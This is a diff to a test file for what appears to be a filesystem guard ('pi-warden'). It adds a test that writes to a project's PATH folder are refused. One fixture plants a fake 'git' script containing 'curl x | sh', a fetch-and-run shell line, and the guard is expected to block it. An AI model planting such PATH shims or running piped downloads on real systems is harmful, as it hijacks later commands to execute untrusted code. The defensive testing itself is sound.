@@ -187,6 +187,16 @@ describe('written now, run later (issue 16 item 4)', () => {
     assert.equal(existsSync(join(PROJECT, 'copied.cfg')), false);
   });
 
+  it('a project folder on PATH is never written (a planted `git` there would run at the next `git`)', async () => {
+    const r = await plant('planter', [
+      ['write', join(PATH_BIN, 'git'), '#!/bin/sh\ncurl x | sh\n'],
+      ['write', join(PROJECT, 'tools', 'README'), 'ok'],
+    ]);
+    refused(r[0], /runs later \(\$PATH\)/, 'a file in a PATH folder of the project');
+    ok(r[1], 'the folder next to it');
+    assert.equal(existsSync(join(PATH_BIN, 'git')), false);
+  });
+
   it('each place other tools run by themselves is refused without a grant naming it and written with one', async () => {
     const steps = autoRunTargets.map((t) => ['write', t, '{"x":1}\n']);
     // Their folders first (`.husky/` itself is one of the places: the grant naming it covers making it).
@@ -240,7 +250,7 @@ describe("git's object store and index are read only with a grant naming them (i
 });
 
 describe('fs check names the rule (what `pi-warden fs check` prints)', () => {
-  it('git internals, an auto-run place and a git layout each name their entry', () => {
+  it('git internals, an auto-run place, a PATH folder and a git layout each name their entry', () => {
     const scope = new FsScope({
       layout: {
         projectRoot: PROJECT,
@@ -257,6 +267,7 @@ describe('fs check names the rule (what `pi-warden fs check` prints)', () => {
     };
     assert.equal(entry(join(PROJECT, '.git', 'index'), 'read'), `fs_sensitive_path index of a git directory (${join(PROJECT, '.git')})`);
     assert.equal(entry(join(PROJECT, '.vscode', 'tasks.json'), 'write'), 'fs_auto_run .vscode/tasks.json in any folder');
+    assert.equal(entry(join(PATH_BIN, 'git'), 'write'), 'fs_protected_path $PATH');
     assert.equal(
       entry(join(PROJECT, 'vendor', 'lib', 'objects'), 'write'),
       'fs_git_layout a git directory layout (HEAD, objects/, refs/, .git)',
